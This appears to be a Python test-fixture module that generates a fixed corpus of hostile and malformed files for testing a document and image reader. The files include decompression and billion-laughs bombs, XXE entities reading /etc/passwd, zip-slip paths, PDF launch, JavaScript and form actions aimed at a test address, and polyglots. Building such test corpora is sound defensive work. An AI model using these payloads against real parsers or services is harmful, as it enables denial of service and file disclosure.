"""Pictures and documents that mean harm, or are broken: the same ones in every run."""

from __future__ import annotations

import io
import random
import struct
import tarfile
import zlib
from collections.abc import Iterator, Mapping
from typing import Literal

from PIL import Image

from tests.gateway.reading.files import (
    docx,
    encoded,
    encrypted_pdf,
    packed,
    paragraphs,
    pdf,
    pdf_of,
    photo,
    relations,
    screenshot,
    stream,
)

_SEED = 20_261_124
_MUTANTS = 4
"""Of each kind, for each valid file."""

Call = Literal["picture", "document"]


def corpus(address: str) -> Iterator[tuple[str, Call, bytes]]:
    """Each file with its name and the call that it is for. `address` is a server that no file may reach."""
    for name, content in _picture_bombs():
        yield name, "picture", content
    for name, content in _document_bombs():
        yield name, "document", content
    for name, content in _references(address):
        yield name, "document", content
    for name, content in _impostors():
        yield f"{name}-as-picture", "picture", content
        yield f"{name}-as-document", "document", content
    for call, valid in (("picture", valid_pictures()), ("document", valid_documents())):
        for name, content in _broken(valid):
            yield name, "picture" if call == "picture" else "document", content


def valid_pictures() -> Mapping[str, bytes]:
    """A picture of each format."""
    dice = random.Random(_SEED)
    image = photo(97, 61)
    image.putpixel((dice.randrange(97), 3), (1, 2, 3))
    forms = ("JPEG", "PNG", "GIF", "WEBP", "BMP", "TIFF", "AVIF")
    found = {form.lower(): encoded(image, form) for form in forms}
    found["progressive"] = encoded(image, "JPEG", progressive=True)
    found["packed-tiff"] = encoded(image, "TIFF", compression="tiff_lzw")
    found["animation"] = encoded(image, "GIF", save_all=True, append_images=[screenshot(97, 61)])
    return found


def valid_documents() -> Mapping[str, bytes]:
    """A document of some kinds."""
    return {
        "pdf": pdf(["A page\nof text", "Another"], title="Title"),
        "packed-pdf": pdf(["Packed text"] * 3, packed=True),
        "docx": docx(paragraphs("One", "Two"), title="Title"),
        "html": b"<html><title>T</title><body><p>Text<table><tr><td>a<td>b</table></html>",
        "csv": b"name,price,count,sum\nA,1,2,2\nB,3,4,12\n",
        "rtf": rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}Some {\b bold} text\par}",
    }


def png(width: int, height: int, data: bytes, *, bits: int = 8, kind: int = 2, more: bytes = b"") -> bytes:
    """A PNG with any header."""
    header = struct.pack(">IIBBBBB", width, height, bits, kind, 0, 0, 0)
    parts = ((b"IHDR", header), (b"IDAT", data), (b"IEND", b""))
    written = b"".join(_chunk(name, content) for name, content in parts[:1])
    return b"\x89PNG\r\n\x1a\n" + written + more + b"".join(_chunk(*part) for part in parts[1:])


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def _picture_bombs() -> Iterator[tuple[str, bytes]]:
    zeros = zlib.compress(bytes(30_000_000), 1)
    for side in (8_001, 20_000, 65_535, 2**31 - 1):
        yield f"png-{side}-wide", png(side, side, zeros)
    yield "png-that-unpacks-on", png(100, 100, zeros)
    yield "png-just-allowed", png(8_000, 8_000, zlib.compress(bytes(1_000), 9))
    yield "png-of-no-width", png(0, 10, zeros[:100])
    yield "png-with-a-packed-comment", png(4, 4, zeros[:90], more=_chunk(b"zTXt", b"a\0\0" + zeros))
    yield "png-with-a-packed-profile", png(4, 4, zeros[:90], more=_chunk(b"iCCP", b"a\0\0" + zeros))
    gif = encoded(screenshot(20, 20), "GIF")
    yield "gif-65535-wide", gif[:6] + b"\xff\xff\xff\xff" + gif[10:]
    at = gif.index(b",", 13)
    yield "gif-with-a-large-frame", gif[: at + 5] + b"\xff\xff\xff\xff" + gif[at + 9 :]
    frames = [Image.new("RGB", (4, 4), (number, 0, 0)) for number in range(250)]
    yield "gif-of-many-frames", encoded(frames[0], "GIF", save_all=True, append_images=frames[1:])
    bmp = encoded(screenshot(20, 20), "BMP")
    for width, height in ((30_000, 30_000), (2**31 - 1, 2), (20, -(2**31))):
        yield f"bmp-{width}-by-{height}", bmp[:18] + struct.pack("<ii", width, height) + bmp[26:]
    tiff = encoded(screenshot(20, 20), "TIFF")
    for value in (40_000, 2**31):
        changed = tiff.replace(struct.pack("<HHII", 256, 4, 1, 20), struct.pack("<HHII", 256, 4, 1, value))
        yield (
            f"tiff-{value}-wide",
            changed.replace(struct.pack("<HHII", 257, 4, 1, 20), struct.pack("<HHII", 257, 4, 1, value)),
        )
    offset = struct.unpack("<I", tiff[4:8])[0]
    yield "tiff-in-a-ring", tiff[:-4] + struct.pack("<I", offset)
    yield "tiff-of-no-directory", tiff[:4] + b"\xff\xff\xff\x7f" + tiff[8:]
    webp = encoded(screenshot(20, 20), "WEBP", lossless=True)
    yield "webp-of-16383", webp[:21] + b"\xff\xff\xff\x0f" + webp[25:]
    jpeg = encoded(photo(64, 64), "JPEG")
    at = jpeg.index(b"\xff\xc0")
    for side in (20_000, 65_500):
        yield f"jpeg-{side}-wide", jpeg[: at + 5] + struct.pack(">HH", side, side) + jpeg[at + 9 :]
    exif = Image.Exif()
    exif[0x0112] = 6
    for number in range(8):
        turned = bytearray(encoded(photo(40, 30), "JPEG", exif=exif))
        turned[30 + 2 * number] ^= 0xFF
        yield f"jpeg-of-broken-exif-{number}", bytes(turned)
    progressive = encoded(photo(64, 64), "JPEG", progressive=True)
    scan = progressive.index(b"\xff\xda")
    yield "jpeg-of-many-scans", progressive[:scan] + progressive[scan:-2] * 400 + b"\xff\xd9"


def _document_bombs() -> Iterator[tuple[str, bytes]]:
    zeros = zlib.compress(bytes(30_000_000), 1)
    twice = zlib.compress(zeros, 9)
    words = b"BT /F 12 Tf 0 0 Td " + (b"(" + b"bomb" * 50 + b") Tj ") * 1_000 + b"ET"
    for name, content in (
        ("pdf-flate-bomb", stream_of(zeros, b"/Filter/FlateDecode")),
        ("pdf-flate-bomb-twice", stream_of(twice, b"/Filter[/FlateDecode/FlateDecode]")),
        ("pdf-of-endless-words", stream_of(zlib.compress(words), b"/Filter/FlateDecode")),
        ("pdf-of-many-filters", stream_of(b"x", b"/Filter[" + b"/ASCIIHexDecode" * 5_000 + b"]")),
        ("pdf-nested-brackets", stream_of(b"[" * 500_000, b"")),
        ("pdf-nested-states", stream_of(b"q " * 500_000, b"")),
    ):
        yield name, one_page(content)
    yield (
        "pdf-object-stream-bomb",
        pdf_of(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                b"<</Type/Pages/Count 1/Kids[9 0 R]>>",
                stream_of(zeros, b"/Type/ObjStm/N 100000/First 10/Filter/FlateDecode"),
            ]
        ),
    )
    for name, pages in (
        ("pdf-page-is-its-own-parent", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"),
        ("pdf-of-a-billion-pages", b"<</Type/Pages/Count 1000000000/Kids[3 0 R]>>"),
        ("pdf-of-minus-one-page", b"<</Type/Pages/Count -1/Kids[3 0 R]>>"),
        ("pdf-pages-in-a-ring", b"<</Type/Pages/Count 2/Kids[3 0 R 2 0 R]>>"),
    ):
        body = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 2 0 R>>"
        yield name, pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", pages, body])
    resources = b"<</XObject<</X 4 0 R>>>>"
    ring = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Length 5>>"
    yield (
        "pdf-form-in-itself",
        pdf_of(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 5 0 R/Resources %s>>" % resources,
                ring + b"stream\n/X Do\nendstream",
                stream(b"/X Do"),
            ]
        ),
    )
    yield "pdf-of-many-pages", pdf(["x"] * 3_000)
    yield "pdf-huge-page", one_page(stream(b"")).replace(b"[0 0 9 9]", b"[0 0 99999999999999999999 1e38]")
    yield "pdf-xref-in-a-ring", b"%PDF-1.4\nxref\n0 1\ntrailer<</Prev 9/Size 1>>\nstartxref\n9\n%%EOF"
    yield "pdf-with-a-password", encrypted_pdf()
    yield from _zip_bombs(zeros)
    yield from _text_bombs()


def stream_of(data: bytes, entries: bytes) -> bytes:
    return stream(data, entries=entries)


def one_page(content: bytes) -> bytes:
    return pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
            content,
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ]
    )


def _zip_bombs(zeros: bytes) -> Iterator[tuple[str, bytes]]:
    laughs = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12)
    )
    start = docx(paragraphs("x"))
    yield "docx-of-spaces", docx(paragraphs(" " * 5_000_000))
    yield "docx-of-many-paragraphs", docx(paragraphs("word") * 100_000)
    yield "docx-deeply-nested", docx("<a>" * 100_000 + "</a>" * 100_000)
    yield "docx-billion-laughs", docx("", more={"word/document.xml": f"{laughs}]><x>&m;</x>"})
    yield (
        "docx-file-entity",
        docx(
            "", more={"word/document.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}
        ),
    )
    yield "docx-long-attribute", docx(f'<w:p w:x="{"x" * 4_000_000}"/>')
    yield "docx-many-attributes", docx("<w:p " + " ".join(f'a{n}=""' for n in range(50_000)) + "/>")
    yield "docx-macros", docx(paragraphs("x"), more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    yield "zip-of-many-members", packed({f"{n}": b"" for n in range(10_001)})
    yield "zip-in-zip", packed({f"{n}.zip": packed({"a": bytes(1_000_000)}) for n in range(4)})
    yield "zip-outside", packed({"../../etc/passwd": b"x", "/etc/passwd": b"x", "word\\document.xml": b"x"})
    yield "zip-that-lies-about-sizes", start.replace(struct.pack("<I", len(paragraphs("x"))), bytes(4))
    yield "zip-encrypted", _flagged(start)
    yield "zip-bomb-behind-a-zip", start + zeros
    yield (
        "workbook-of-far-cells",
        packed(
            {
                "_rels/.rels": relations({"a": ("officeDocument", "xl/workbook.xml")}),
                "xl/workbook.xml": '<w xmlns:r="http://x/relationships">'
                + '<sheet name="x" r:id="a"/>' * 3_000
                + "</w>",
                "xl/_rels/workbook.xml.rels": relations({"a": ("worksheet", "s.xml")}),
                "xl/s.xml": "<s>"
                + '<row><c r="XFD1"><v>1</v></c><c r="ZZ9"><v>2</v></c></row>' * 50_000
                + "</s>",
            }
        ),
    )
    yield (
        "book-that-lists-itself",
        packed(
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": '<c><rootfile full-path="b.opf"/></c>',
                "b.opf": '<p><item id="a" href="b.opf"/>' + '<itemref idref="a"/>' * 20_000 + "</p>",
            }
        ),
    )


def _flagged(content: bytes) -> bytes:
    """The same ZIP, said to be encrypted."""
    changed = bytearray(content)
    for magic, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = -1
        while (start := content.find(magic, start + 1)) >= 0:
            changed[start + at] |= 1
    return bytes(changed)


def _text_bombs() -> Iterator[tuple[str, bytes]]:
    yield "html-of-open-tags", b"<html>" + b"<div>" * 50_000
    yield "html-of-brackets", b"<html>" + b"<" * 300_000
    yield "html-of-quotes", b'<html><a href="' * 50_000
    yield "html-of-references", b"<html>" + b"&#x110000;&amp;" * 200_000
    yield "html-of-comments", b"<html>" + b"<!--" * 300_000
    yield "text-of-comments", b"<!--a-->" * 2_000 + b"<p>"
    yield "html-of-silence", b"<html>" + b"<script>" * 100_000 + b"x"
    yield "csv-of-quotes", b'a,"' * 500_000
    yield "csv-of-commas", (b"," * 200_000 + b"\n") * 20
    yield "text-of-marks", ("a" + "\u0301" * 500_000).encode()
    yield "text-of-joiners", ("\u200d" * 300_000).encode()
    yield "text-of-lines", b"\n" * 5_000_000
    yield "text-of-one-line", b"x" * 5_000_000
    yield "rtf-of-groups", b"{\\rtf1" + b"{" * 500_000
    yield "rtf-of-numbers", b"{\\rtf1" + b"\\u99999999 " * 60_000
    yield "rtf-of-bytes", b"{\\rtf1\\bin999999999 " + bytes(1_000)


def _references(address: str) -> Iterator[tuple[str, bytes]]:
    link = f'<Relationship Id="a" Type="x/image" Target="{address}a.png" TargetMode="External"/>'
    document = f'<Relationship Id="b" Type="x/attachedTemplate" Target="{address}t.dotm"/>'
    yield (
        "docx-remote-template",
        docx(paragraphs("x"), more={"word/_rels/document.xml.rels": f"<r>{link}{document}</r>"}),
    )
    yield (
        "docx-remote-main-part",
        packed({"_rels/.rels": relations({"a": ("officeDocument", f"{address}word/document.xml")})}),
    )
    yield (
        "docx-remote-entity",
        docx("", more={"word/document.xml": f'<!DOCTYPE x SYSTEM "{address}x.dtd"><x>y</x>'}),
    )
    yield (
        "html-remote",
        (
            f"<html><head><link rel=stylesheet href={address}><meta http-equiv=refresh content='0;{address}'>"
            f"<body><img src={address}a.png><iframe src='file:///etc/passwd'></iframe><p>x"
        ).encode(),
    )
    yield (
        "svg-remote",
        f"<svg xmlns='x'><image href='{address}'/><use href='file:///etc/passwd'/></svg>".encode(),
    )
    actions = {
        "uri": b"<</S/URI/URI(%s)>>" % address.encode(),
        "script": b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % address.encode(),
        "launch": b"<</S/Launch/F(/bin/sh)>>",
        "form": b"<</S/SubmitForm/F(%s)>>" % address.encode(),
        "remote": b"<</S/GoToR/F(file:///etc/passwd)>>",
    }
    for name, action in actions.items():
        yield f"pdf-{name}", pdf(["x"], extra={"OpenAction": action, "AA": b"<</O %s>>" % action})
    outside = stream(b"", entries=b"/F(/etc/passwd)/FFilter/FlateDecode")
    yield "pdf-outside-stream", one_page(outside)
    yield "rtf-remote", rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE " + address.encode() + rb"}}x}"


def _impostors() -> Iterator[tuple[str, bytes]]:
    """Files that are not what they seem."""
    image = encoded(screenshot(20, 20), "PNG")
    jpeg = encoded(photo(20, 20), "JPEG")
    archive = packed({"a.txt": "a"})
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as folder:
        folder.addfile(tarfile.TarInfo("a"))
    yield "empty", b""
    yield "one-byte", b"P"
    yield "zeros", bytes(10_000)
    yield "ones", b"\xff" * 10_000
    yield "elf", b"\x7fELF\x02\x01\x01" + bytes(400)
    yield "exe", b"MZ\x90\x00" + bytes(400)
    yield "tar", tar.getvalue()
    yield "gzip", b"\x1f\x8b\x08\x00" + bytes(100)
    yield "seven-zip", b"7z\xbc\xaf\x27\x1c" + bytes(100)
    yield "rar", b"Rar!\x1a\x07\x01\x00" + bytes(100)
    yield "old-word", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)
    yield "heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(300)
    yield "postscript", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file run\n"
    yield "mvg", b"push graphic-context\nimage over 0,0 0,0 'https://127.0.0.1/x'\npop graphic-context\n"
    yield "svg", b"<svg xmlns='http://www.w3.org/2000/svg' width='99999' height='99999'/>"
    yield "picture-and-archive", image + archive
    yield "archive-and-pdf", archive + pdf(["x"])
    yield "picture-and-pdf", jpeg + pdf(["x"])
    yield "pdf-behind-text", b"# A script\n" + pdf(["x"])
    yield "html-and-pdf", b"<html><body>" + pdf(["x"])
    yield "html-in-gif", b"GIF89a/*<html><script>x()</script>*/=1;" + bytes(40)
    yield "png-header-alone", b"\x89PNG\r\n\x1a\n"
    yield "pdf-header-alone", b"%PDF-1.7\n"
    yield "zip-header-alone", b"PK\x03\x04"
    yield "zip-end-alone", b"PK\x05\x06" + bytes(18)


def _broken(valid: Mapping[str, bytes]) -> Iterator[tuple[str, bytes]]:
    dice = random.Random(_SEED)
    for name, content in valid.items():
        yield f"{name}-whole", content
        yield f"{name}-twice", content + content
        yield f"{name}-with-garbage", content + dice.randbytes(3_000)
        yield f"{name}-garbage-body", content[:40] + dice.randbytes(5_000)
        for number in range(_MUTANTS):
            yield f"{name}-cut-{number}", content[: dice.randrange(1, len(content))]
            flipped = bytearray(content)
            for _ in range(dice.randrange(1, 12)):
                flipped[dice.randrange(len(flipped))] ^= 1 << dice.randrange(8)
            yield f"{name}-flipped-{number}", bytes(flipped)
